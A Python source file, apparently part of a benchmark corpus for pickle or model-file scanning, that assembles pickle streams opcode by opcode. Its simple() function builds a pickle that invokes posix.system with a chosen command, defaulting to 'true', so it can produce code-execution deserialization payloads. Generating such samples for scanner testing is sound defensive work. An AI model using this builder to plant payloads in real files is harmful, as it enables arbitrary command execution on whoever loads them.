"""Writes pickles opcode by opcode, so that samples name callables without importing or calling them (bench/model_corpus.py)."""
import struct


class Raw(bytes):
    """Opcodes that leave one value on the stack."""


def text(s, proto=4, short=True):
    data = s.encode("utf-8", "surrogatepass")
    if proto == 0:
        return b"V" + s.encode("raw_unicode_escape") + b"\n"
    if proto >= 4 and short and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def blob(b, proto=4):
    if proto < 3:
        return call("_codecs", "encode", (b.decode("latin1"), "latin1"), proto)
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def number(i, proto=4):
    if proto == 0 or not -2**31 <= i < 2**31:
        return b"I" + str(i).encode() + b"\n"
    return b"J" + struct.pack("<i", i)


def value(x, proto=4):
    """Opcodes of a plain value; Raw parts go in as they are."""
    if isinstance(x, Raw):
        return x
    if x is None:
        return b"N"
    if isinstance(x, bool):
        return (b"\x88" if x else b"\x89") if proto >= 2 else (b"I01\n" if x else b"I00\n")
    if isinstance(x, str):
        return text(x, proto)
    if isinstance(x, bytes):
        return blob(x, proto)
    if isinstance(x, int):
        return number(x, proto)
    if isinstance(x, float):
        return b"G" + struct.pack(">d", x) if proto else b"F" + repr(x).encode() + b"\n"
    if isinstance(x, dict):
        return b"(" + b"".join(value(k, proto) + value(v, proto) for k, v in x.items()) + b"d"
    return b"(" + b"".join(value(e, proto) for e in x) + (b"t" if isinstance(x, tuple) else b"l")


def name(module, qualname, proto=4):
    """A global: GLOBAL before protocol 4, STACK_GLOBAL since."""
    if proto >= 4:
        return Raw(text(module) + text(qualname) + b"\x93")
    return Raw(f"c{module}\n{qualname}\n".encode())


def call(module, qualname, args, proto=4):
    return Raw(name(module, qualname, proto) + value(tuple(args), proto) + b"R")


def apply(function, args, proto=4):
    """Calls what other opcodes left on the stack."""
    return Raw(function + value(tuple(args), proto) + b"R")


def whole(body, proto=4, frame=False):
    head = bytes([0x80, proto]) if proto >= 2 else b""
    body += b"."
    return head + (b"\x95" + struct.pack("<Q", len(body)) if frame else b"") + body


def simple(command="true", proto=4, module="posix", function="system"):
    """The sample payload: it would run `true`."""
    return whole(call(module, function, (command,), proto), proto)
